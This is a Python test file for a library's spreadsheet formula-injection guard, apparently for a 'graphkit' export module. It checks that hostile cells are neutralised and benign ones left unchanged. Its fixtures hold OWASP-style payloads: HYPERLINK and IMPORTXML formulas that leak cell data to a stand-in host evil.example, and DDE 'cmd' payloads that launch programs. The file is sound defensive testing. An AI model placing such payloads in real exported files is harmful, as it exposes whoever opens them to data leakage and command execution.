"""The formula-injection guard: hostile cells come out inert, everything else unchanged."""

from __future__ import annotations

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from graphkit.errors import ParameterError
from graphkit.export import GuardReport, guard_crm, guard_spreadsheet, unguard_spreadsheet
from graphkit.export.guard import is_formula

# Payloads from OWASP's CSV injection page and common proofs of concept.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
]
BENIGN = ["Ada Brightwater", "陈静", "a=b", "maya_builds", "O'Neil", "", "x-ray", "CTO @ Acme"]

text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12)
risky = st.lists(
    st.one_of(
        text,
        st.builds(lambda head, tail: head + tail, st.sampled_from(["=", "+", "-", "@", "\t",
                  "\r", "\n", "'", "''", " =", "'=", "@@", "@ =", "@\t+", "@\r=", "@\n-",
                  "\u00a0=", "\uff1d", "\uff20\u3000\uff0b", "-3.5", "+1 555 0100"]), text),
        st.none(),
    ),
    max_size=20,
)  # fmt: skip


FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
# Every Unicode space or line separator, the information separators and zero-width marks.
BLANKS = "".join(chr(code) for code in range(0x3001) if chr(code).isspace()) + (
    "\x1c\x1d\x1e\x1f\u180e\u200b\u2060\ufeff"
)
SIGILS = "@\uff20\ufe6b"
NUMBER_CHARACTERS = set("0123456789 ().,/-+eE")


def _spreadsheet_sees_formula(cell: str | None) -> bool:
    """What a spreadsheet does: blanks skipped, = + - @ (any form) start a formula; a tab, CR
    or LF first too."""
    if cell is None or cell.startswith("'"):
        return False
    first = cell.lstrip(BLANKS)[:1]
    return cell[:1] in ("\t", "\r", "\n") or (first != "" and first in FORMULA_STARTS)


def _exposed_after_strip_rounds(cell: str | None) -> bool:
    """Whether stripping blanks or @, any number of rounds, leaves a formula at the front."""
    while cell is not None:
        if _spreadsheet_sees_formula(cell):
            return True
        stripped = cell.lstrip(BLANKS).lstrip(SIGILS)
        if stripped == cell:
            return False
        cell = stripped
    return False


def _looks_numeric(values: list[str | None]) -> bool:
    return all(
        value is None
        or value == ""
        or (set(value) <= NUMBER_CHARACTERS and any(c.isdigit() for c in value))
        for value in values
    )


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_payloads_are_formulas_and_come_out_inert(payload: str) -> None:
    assert is_formula(payload)
    frame = pl.DataFrame({"name": [payload]})
    assert guard_spreadsheet(frame)["name"][0] == "'" + payload
    crm = guard_crm(frame)["name"][0]
    assert crm.startswith("'")
    assert crm[1:] == payload.lstrip(" \t\r\n")


@pytest.mark.parametrize("value", BENIGN)
def test_benign_text_is_untouched(value: str) -> None:
    frame = pl.DataFrame({"name": [value], "handle": [value]})
    assert not is_formula(value)
    assert guard_spreadsheet(frame).equals(frame)
    assert guard_crm(frame, handle_columns=["handle"]).equals(frame)


def test_numbers_are_not_guarded() -> None:
    frame = pl.DataFrame({"score": [-1.5, 2.0], "rank": [-3, 4]})
    assert guard_spreadsheet(frame).equals(frame)
    assert guard_crm(frame).equals(frame)


def test_crm_guard_strips_what_is_not_part_of_the_value_and_reports_it() -> None:
    frame = pl.DataFrame(
        {
            "Handle": ["@maya_builds", "@@=HYPERLINK(1)", "plain", " \t@x"],
            "Name": ["\tAda", "=1+1", "Bob", "-Carol-"],
        }
    )
    report = GuardReport("crm")
    guarded = guard_crm(frame, report, handle_columns=["Handle"], table="contacts")
    assert guarded["Handle"].to_list() == ["maya_builds", "'=HYPERLINK(1)", "plain", "x"]
    assert guarded["Name"].to_list() == ["Ada", "'=1+1", "Bob", "'-Carol-"]
    assert report.changed == 6
    reasons = {(row, column): why for table, row, column, why in report.cells}
    assert {table for table, *_ in report.cells} == {"contacts"}
    assert reasons[(1, "Handle")] == "handle @ removed"
    assert reasons[(2, "Handle")] == "handle @ removed; prefixed"
    assert reasons[(4, "Handle")] == "leading blanks removed; handle @ removed"
    assert reasons[(1, "Name")] == "leading blanks removed"
    assert reasons[(2, "Name")] == "prefixed"


@given(risky)
def test_spreadsheet_guard_is_reversible_and_leaves_no_formula(values: list[str | None]) -> None:
    frame = pl.DataFrame({"cell": values}, schema={"cell": pl.String})
    report = GuardReport("spreadsheet")
    guarded = guard_spreadsheet(frame, report)
    assert unguard_spreadsheet(guarded).equals(frame)
    if not is_numeric_column(frame["cell"]):
        assert not any(_exposed_after_strip_rounds(cell) for cell in guarded["cell"])
    changed = sum(a != b for a, b in zip(frame["cell"], guarded["cell"], strict=True))
    assert report.changed == changed


@given(risky)
def test_crm_guard_leaves_no_formula_after_any_strip_round_and_is_idempotent(
    values: list[str | None],
) -> None:
    frame = pl.DataFrame({"handle": values, "name": values}, schema={"handle": pl.String,
                         "name": pl.String})  # fmt: skip
    guarded = guard_crm(frame, handle_columns=["handle"])
    assert guard_crm(guarded, handle_columns=["handle"]).equals(guarded)
    for column in ("handle", "name"):
        strip = BLANKS + (SIGILS if column == "handle" else "")
        stripped = [None if value is None else value.lstrip(strip) for value in values]
        numeric = _looks_numeric(stripped)
        for before, after in zip(stripped, guarded[column], strict=True):
            if before is None:
                assert after is None
            elif numeric:
                assert after == before
            else:
                assert not _exposed_after_strip_rounds(after)
                assert after in (before, "'" + before)  # only leading characters removed


@given(
    st.lists(st.one_of(text, st.sampled_from([" b", "b", "\tb", "'=b", "=b", "@b"])), max_size=12)
)
def test_crm_key_columns_stay_distinct(ids: list[str]) -> None:
    frame = pl.DataFrame({"Graphkit ID": ids}, schema={"Graphkit ID": pl.String})
    guarded = guard_crm(frame, key_columns=["Graphkit ID"])["Graphkit ID"].to_list()
    assert len(set(guarded)) == len(set(ids))
    assert not any(_spreadsheet_sees_formula(cell) for cell in guarded)


@given(st.lists(st.one_of(text, st.sampled_from(["=SUM(A1)", "@x", " -y", "\uff1dx", "x"])),
                min_size=1, max_size=6, unique=True))  # fmt: skip
def test_headers_are_guarded(names: list[str]) -> None:
    frame = pl.DataFrame({name: ["v"] for name in names})
    guarded = guard_spreadsheet(frame)
    assert not any(_exposed_after_strip_rounds(name) for name in guarded.columns)
    assert unguard_spreadsheet(guarded).columns == names
    crm_names = {name.lstrip(BLANKS) for name in names}
    if len(crm_names) == len(names):
        assert not any(_exposed_after_strip_rounds(n) for n in guard_crm(frame).columns)


def test_crm_headers_that_become_one_are_refused() -> None:
    frame = pl.DataFrame({" Name": ["a"], "Name": ["b"]})
    with pytest.raises(ParameterError, match="headers ' Name' and 'Name' are both 'Name'"):
        guard_crm(frame, table="contacts")


ALL_THREE = "leading blanks removed; handle @ removed; prefixed"


@pytest.mark.parametrize(
    ("handle", "expected", "reason"),
    [
        ('@ =HYPERLINK("x")', "'=HYPERLINK(\"x\")", ALL_THREE),
        ("@\t+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", ALL_THREE),
        ("@\r=1", "'=1", ALL_THREE),
        ("@\n-1", "'-1", ALL_THREE),
        ("\uff20\u3000\uff1dx", "'\uff1dx", ALL_THREE),
        ("\u00a0@maya", "maya", "leading blanks removed; handle @ removed"),
    ],
)  # fmt: skip
def test_handles_that_bypassed_the_guard(handle: str, expected: str, reason: str) -> None:
    report = GuardReport("crm")
    frame = pl.DataFrame({"Handle": [handle, "plain"]})
    guarded = guard_crm(frame, report, handle_columns=["Handle"], table="contacts")
    assert guarded["Handle"][0] == expected
    assert report.cells == [("contacts", 1, "Handle", reason)]


def test_numeric_text_columns_keep_their_numbers() -> None:
    frame = pl.DataFrame({"balance": ["-3.5", "2", None], "phone": ["+1 555 0100", "", "+44 20"],
                          "mixed": ["-3.5", "-1+cmd|' /C calc'!A0", "x"]})  # fmt: skip
    guarded = guard_spreadsheet(frame)
    assert guarded["balance"].equals(frame["balance"])
    assert guarded["phone"].equals(frame["phone"])
    assert guarded["mixed"].to_list() == ["'-3.5", "'-1+cmd|' /C calc'!A0", "x"]
    crm = guard_crm(frame)
    assert crm["phone"].to_list() == ["+1 555 0100", "", "+44 20"]
    assert crm["mixed"].to_list() == ["'-3.5", "'-1+cmd|' /C calc'!A0", "x"]


def is_numeric_column(series: pl.Series) -> bool:
    return _looks_numeric(series.to_list())
